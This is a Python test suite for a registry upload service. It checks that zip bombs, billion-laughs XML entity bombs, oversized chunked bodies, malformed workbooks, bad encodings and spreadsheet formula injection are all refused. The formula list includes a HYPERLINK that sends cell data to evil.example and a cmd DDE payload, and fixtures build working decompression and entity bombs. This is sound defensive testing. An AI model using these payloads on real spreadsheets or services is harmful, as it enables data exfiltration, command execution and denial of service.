"""Hostile registry uploads: bombs, broken workbooks, formula injection, odd encodings and floods of garbage.

Every file-level refusal is a 4xx problem+json naming the field and the rule (zh and en) and keeps
nothing; row-level faults are reported per row in a bounded list; nothing answers 5xx.
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import zipfile

import httpx
import pytest
from fastapi import FastAPI, File, UploadFile
from openpyxl import Workbook

from devstack.broker import free_port
from kernel.spreadsheets import cell
from services.monitoring import uploads
from tests.conftest import running_service
from tests.monitoring.test_registry import bureau, csv_bytes, registry, upload, xlsx_bytes
from tests.support.factories import credit_code
from tests.support.servers import serve

MAX_BYTES = 8 * 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


@pytest.fixture
async def hub(sqlite_databases, token_mint):
    url = await sqlite_databases.create("monitoring")
    async with running_service(
        "monitoring",
        url,
        f"127.0.0.1:{free_port()}",
        token_mint,
        run_consumers=False,
        run_relay=False,
        run_push_delivery=False,
        registry_upload_max_bytes=MAX_BYTES,
    ) as running:
        yield running


@pytest.fixture
async def client():
    async with httpx.AsyncClient(timeout=60) as http:
        yield http


def refused(response: httpx.Response, rule: str, status: int = 422) -> dict:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    error = response.json()["errors"][0]
    assert error["field"] == "file"
    assert error["rule"] == rule, error
    assert error["message_zh"] and error["message_en"]
    assert "Traceback" not in response.text and 'File "' not in response.text
    return error


def replace_sheet(sheet_xml_chunks, *, compresslevel: int = 6) -> bytes:
    """A real workbook whose first sheet is replaced by the given XML, written (and compressed) chunk by chunk."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([[credit_code(1), "甲", "CONSTRUCTION", "朝阳区"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as target:
        for info in source.infolist():
            if info.filename == SHEET:
                with target.open(SHEET, "w", force_zip64=True) as sheet:
                    for chunk in sheet_xml_chunks:
                        sheet.write(chunk)
            else:
                target.writestr(info, source.read(info.filename))
    return out.getvalue()


@pytest.fixture(scope="module")
def hundreds_of_mb_bomb() -> bytes:
    """Sheet XML of 300 MB (one empty row repeated) that compresses to well under a megabyte."""
    row = b"<row/>" * (1024 * 1024 // 6)
    return replace_sheet([SHEET_HEAD, *([row] * 300), SHEET_TAIL], compresslevel=9)


@pytest.fixture
def watch_inflation(monkeypatch) -> list[str]:
    """Records every zip entry opened and every workbook load while the hub runs in this process."""
    opened: list[str] = []
    real_open = zipfile.ZipFile.open
    import openpyxl

    real_load = openpyxl.load_workbook

    def open_entry(self, name, *args, **kwargs):
        opened.append(getattr(name, "filename", name))
        return real_open(self, name, *args, **kwargs)

    def load(*args, **kwargs):
        opened.append("load_workbook")
        return real_load(*args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", open_entry)
    monkeypatch.setattr(openpyxl, "load_workbook", load)
    return opened


# --- size ----------------------------------------------------------------------------------------------


async def test_oversized_upload_is_refused_with_413_before_the_body_is_read(hub, token_mint):
    """The declared length alone gets a 413: the hub answers while the client has sent almost nothing."""
    host, port = hub.url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    auth = bureau(token_mint)["Authorization"]
    head = (
        f"POST /registry/uploads HTTP/1.1\r\nHost: {host}\r\nAuthorization: {auth}\r\n"
        f"Content-Type: multipart/form-data; boundary=XYZ\r\nContent-Length: {50 * MAX_BYTES}\r\n\r\n"
        '--XYZ\r\nContent-Disposition: form-data; name="file"; filename="huge.csv"\r\n\r\ncredit_code\n'
    )
    writer.write(head.encode())
    await writer.drain()
    try:
        answer = await asyncio.wait_for(reader.read(65536), timeout=10)
    finally:
        writer.close()
    status_line, _, rest = answer.decode("utf-8", "replace").partition("\r\n")
    assert " 413 " in status_line, answer
    assert "application/problem+json" in rest and "registry.upload_too_large" in rest


async def test_oversized_upload_is_refused_and_nothing_kept(hub, token_mint, client):
    content = csv_bytes([[credit_code(n), "名" * 190, "CONSTRUCTION", "朝阳区"] for n in range(1, 20)]) + b"x" * MAX_BYTES
    refused(await upload(client, hub.url, bureau(token_mint), "big.csv", content), "registry.upload_too_large", status=413)
    assert await registry(client, hub.url, bureau(token_mint)) == {}


# --- malformed workbooks ----------------------------------------------------------------------------------


def zip_of(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(os.urandom(4096), id="random_bytes"),
        pytest.param(b"PK\x03\x04" + os.urandom(2048), id="zip_magic_then_garbage"),
        pytest.param(zip_of({"hello.txt": b"not a workbook"}), id="zip_without_workbook"),
        pytest.param(zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<nonsense"}), id="zip_with_broken_workbook"),
        pytest.param(b"", id="empty"),
    ],
)
async def test_malformed_xlsx_is_refused_with_422_and_nothing_kept(content, hub, token_mint, client):
    refused(await upload(client, hub.url, bureau(token_mint), "list.xlsx", content), "registry.file_malformed")
    assert await registry(client, hub.url, bureau(token_mint)) == {}


async def test_a_sheet_with_a_million_blank_rows_is_refused(hub, token_mint, client):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["credit_code", "name", "industry", "district"])
    sheet.cell(row=1_000_000, column=16_000, value="far away")
    out = io.BytesIO()
    workbook.save(out)
    refused(await upload(client, hub.url, bureau(token_mint), "sparse.xlsx", out.getvalue()), "registry.too_many_rows")


# --- bombs ----------------------------------------------------------------------------------------------


async def test_zip_bomb_of_hundreds_of_megabytes_is_refused_without_inflating_it(hundreds_of_mb_bomb, watch_inflation, hub, token_mint, client):
    assert len(hundreds_of_mb_bomb) < MAX_BYTES
    assert sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(hundreds_of_mb_bomb)).infolist()) > 300 * 1024 * 1024
    watch_inflation.clear()
    error = refused(await upload(client, hub.url, bureau(token_mint), "bomb.xlsx", hundreds_of_mb_bomb), "registry.xlsx_zip_bomb")
    assert "unpack" in error["message_en"]
    assert watch_inflation == [], "an entry was opened or parsed before the bomb was refused"
    assert await registry(client, hub.url, bureau(token_mint)) == {}


async def test_zip_bomb_by_compression_ratio_is_refused_without_inflating_it(watch_inflation, hub, token_mint, client):
    # 20 MB (under the total cap) of one repeated row: about 1000:1.
    bomb = replace_sheet([SHEET_HEAD, *([b"<row/>" * 174_762] * 20), SHEET_TAIL], compresslevel=9)
    watch_inflation.clear()
    error = refused(await upload(client, hub.url, bureau(token_mint), "ratio.xlsx", bomb), "registry.xlsx_zip_bomb")
    assert "compressed" in error["message_en"]
    assert watch_inflation == []


BILLION_LAUGHS = (
    b'<!DOCTYPE worksheet [<!ENTITY lol "lol">'
    + b"".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10))
    + b"]>"
)


def laughing_sheet(padding: bytes = b"") -> list[bytes]:
    declaration, body = SHEET_HEAD.split(b"\n", 1)
    cells = b'<row r="1"><c r="A1" t="inlineStr"><is><t>credit_code</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    return [declaration + b"\n" + padding + BILLION_LAUGHS + body, cells, SHEET_TAIL]


@pytest.mark.parametrize(
    "padding",
    [
        pytest.param(b"", id="doctype_in_the_prolog"),
        # A DOCTYPE after 100 KB of comment is past the cheap prolog scan: defusedxml must refuse it.
        pytest.param(b"<!--" + b" " * 100_000 + b"-->", id="doctype_after_a_long_comment"),
    ],
)
async def test_xml_bomb_in_the_sheet_is_refused(padding, hub, token_mint, client):
    bomb = replace_sheet(laughing_sheet(padding))
    refused(await upload(client, hub.url, bureau(token_mint), "laughs.xlsx", bomb), "registry.xlsx_xml_entities")
    assert await registry(client, hub.url, bureau(token_mint)) == {}


def test_defusedxml_guards_the_sheet_parser_even_past_the_prolog_scan():
    """The second line of defence on its own: openpyxl's sheet parser refuses entity declarations."""
    bomb = replace_sheet(laughing_sheet(b"<!--" + b" " * 100_000 + b"-->"))
    uploads.check_xlsx_archive(bomb)  # the cheap scan does not see this one...
    with pytest.raises(uploads.MalformedUpload) as refusal:
        uploads.read_rows("xlsx", bomb)  # ...the parser does
    assert refusal.value.rule == "registry.xlsx_xml_entities"


# --- formula injection ------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)", "\t=1+1", " =1+1"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_formula_injection_rows_are_refused_and_never_stored(fmt, hub, token_mint, client):
    rows = [[credit_code(n), name, "CONSTRUCTION", "朝阳区"] for n, name in enumerate(FORMULAS, start=1)]
    rows.append([credit_code(50), "北京建工", "CONSTRUCTION", "=1+2"])
    rows.append([credit_code(51), "正常单位", "CONSTRUCTION", "海淀区"])
    content = csv_bytes(rows) if fmt == "csv" else xlsx_bytes(rows, header=("credit_code", "name", "industry", "district"))
    response = await upload(client, hub.url, bureau(token_mint), f"list.{fmt}", content)
    assert response.status_code == 200, response.text
    summary = response.json()
    assert summary["accepted"] == 1 and summary["rejected"] == len(FORMULAS) + 1
    # openpyxl writes a string starting with "=" as a real formula, which the hub reads as an empty
    # cell (it never evaluates one): such rows are refused as missing the field instead.
    refusals = {"registry.formula_refused"} | ({"registry.field_required"} if fmt == "xlsx" else set())
    formula_errors = [e for e in summary["errors"] if e["rule"] in refusals]
    assert {e["row"] for e in formula_errors} == set(range(2, len(FORMULAS) + 3))
    assert {e["field"] for e in formula_errors} == {"name", "district"}
    assert all(e["message_zh"] and e["message_en"] for e in formula_errors)
    assert any(e["rule"] == "registry.formula_refused" for e in formula_errors)
    stored = await registry(client, hub.url, bureau(token_mint))
    assert [entry["name"] for entry in stored.values()] == ["正常单位"]
    assert not any(str(v).lstrip().startswith(uploads.FORMULA_STARTS) for entry in stored.values() for v in entry.values())


@pytest.mark.parametrize("formula", [f for f in FORMULAS if not f.startswith(" ")])
def test_exports_neutralise_any_formula_that_reaches_them(formula):
    """The export writer's own guard (kernel.spreadsheets), for text that came in by another door."""
    assert str(cell(formula)).startswith("'")


# --- encodings -----------------------------------------------------------------------------------------


async def test_a_gbk_csv_is_detected_and_read(hub, token_mint, client):
    rows = [[credit_code(1), "北京市朝阳区建筑工程有限公司", "CONSTRUCTION", "朝阳区"]]
    content = csv_bytes(rows, header=("统一社会信用代码", "单位名称", "行业领域", "属地区县")).decode("utf-8-sig").encode("gbk")
    response = await upload(client, hub.url, bureau(token_mint), "gbk.csv", content)
    assert response.status_code == 200, response.text
    assert response.json()["accepted"] == 1
    stored = await registry(client, hub.url, bureau(token_mint))
    assert [e["name"] for e in stored.values()] == ["北京市朝阳区建筑工程有限公司"]


@pytest.mark.parametrize(
    "content",
    [
        pytest.param("credit_code,name\n甲,乙\n".encode("utf-16"), id="utf16"),
        pytest.param(b"credit_code,name\n\xff\xfe\xfd\x80\x81,x\n", id="undecodable"),
        pytest.param(b"credit_code,name\n\x00\x00\x00,x\n", id="nul_bytes"),
    ],
)
async def test_an_unreadable_encoding_is_refused_clearly(content, hub, token_mint, client):
    error = refused(await upload(client, hub.url, bureau(token_mint), "odd.csv", content), "registry.encoding_unsupported")
    assert "UTF-8" in error["message_en"] and "GBK" in error["message_zh"]


# --- floods of garbage ----------------------------------------------------------------------------------


async def test_100000_garbage_rows_get_a_bounded_error_list(hub, token_mint, client):
    lines = [b"credit_code,name,industry,district"] + [f"junk{n},%$#{n},NOPE,?".encode() for n in range(100_000)]
    content = b"\n".join(lines)
    assert len(content) < MAX_BYTES
    response = await upload(client, hub.url, bureau(token_mint), "junk.csv", content)
    assert response.status_code == 200, response.text[:500]
    summary = response.json()
    assert summary["accepted"] == 0 and summary["rejected"] == 100_000
    errors = summary["errors"]
    assert len(errors) <= 1010
    assert errors[-1]["rule"] == "registry.errors_truncated" and "100000" in errors[-1]["message_en"]
    assert {"credit_code", "industry"} <= {e["field"] for e in errors}
    assert await registry(client, hub.url, bureau(token_mint)) == {}


@pytest.mark.parametrize(
    ("name", "content", "rule"),
    [
        ("rows.csv", b"credit_code\n" + b"x\n" * (uploads.MAX_ROWS + 1), "registry.too_many_rows"),
        ("rows.json", json.dumps([{}] * (uploads.MAX_ROWS + 1)).encode(), "registry.too_many_rows"),
        ("deep.json", b"[" * 200_000 + b"]" * 200_000, "registry.file_malformed"),
        ("wide.csv", b"credit_code,name\n" + b"x" * 300_000 + b",y\n", "registry.file_malformed"),
    ],
)
async def test_files_past_the_parser_limits_are_refused(name, content, rule, hub, token_mint, client):
    refused(await upload(client, hub.url, bureau(token_mint), name, content), rule)
    assert await registry(client, hub.url, bureau(token_mint)) == {}


# --- chunked bodies (no declared length) ---------------------------------------------------------------------


async def _chunked_upload(url: str, headers: dict[str, str], chunks: int, chunk: bytes, *, finish: bool) -> bytes:
    """Send a multipart upload with chunked transfer encoding over a raw socket; return the first answer bytes."""
    host, port = url.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    head = f"POST /registry/uploads HTTP/1.1\r\nHost: {host}\r\nContent-Type: multipart/form-data; boundary=XYZ\r\nTransfer-Encoding: chunked\r\n"
    head += "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
    writer.write(head.encode())

    def frame(data: bytes) -> bytes:
        return f"{len(data):x}\r\n".encode() + data + b"\r\n"

    writer.write(frame(b'--XYZ\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n\r\ncredit_code\n'))
    try:
        for _ in range(chunks):
            writer.write(frame(chunk))
            await writer.drain()
        if finish:
            writer.write(frame(b"\r\n--XYZ--\r\n") + b"0\r\n\r\n")
            await writer.drain()
        return await asyncio.wait_for(reader.read(65536), timeout=15)
    except ConnectionError:
        return await asyncio.wait_for(reader.read(65536), timeout=5)
    finally:
        writer.close()


async def test_a_chunked_oversized_upload_is_refused_with_413(hub, token_mint, client):
    answer = await _chunked_upload(hub.url, bureau(token_mint), chunks=MAX_BYTES // 65536 + 2, chunk=b"x" * 65536, finish=True)
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b"registry.upload_too_large" in answer
    assert await registry(client, hub.url, bureau(token_mint)) == {}


async def test_the_body_limit_answers_413_while_a_chunked_body_is_still_arriving(token_mint):
    """UploadBodyLimit counts bytes as they arrive: the answer comes although the body never ends."""
    inner = FastAPI()

    @inner.post("/registry/uploads")
    async def take(file: UploadFile = File()) -> dict:
        return {"size": len(await file.read())}

    limit = 256 * 1024
    app = uploads.UploadBodyLimit(inner, path_suffix="/registry/uploads", max_bytes=limit)
    async with serve(app) as server:
        # Four times the limit is sent, and the body is never finished: only a counting guard can answer.
        answer = await _chunked_upload(server.url, {}, chunks=16, chunk=b"x" * 65536, finish=False)
        assert answer.startswith(b"HTTP/1.1 413"), answer[:300]
        assert b"application/problem+json" in answer and b"registry.upload_too_large" in answer
        # Small uploads still pass through untouched.
        async with httpx.AsyncClient(timeout=20) as client:
            small = await client.post(f"{server.url}/registry/uploads", files={"file": ("a.csv", b"credit_code\n")})
        assert small.status_code == 200 and small.json() == {"size": 12}
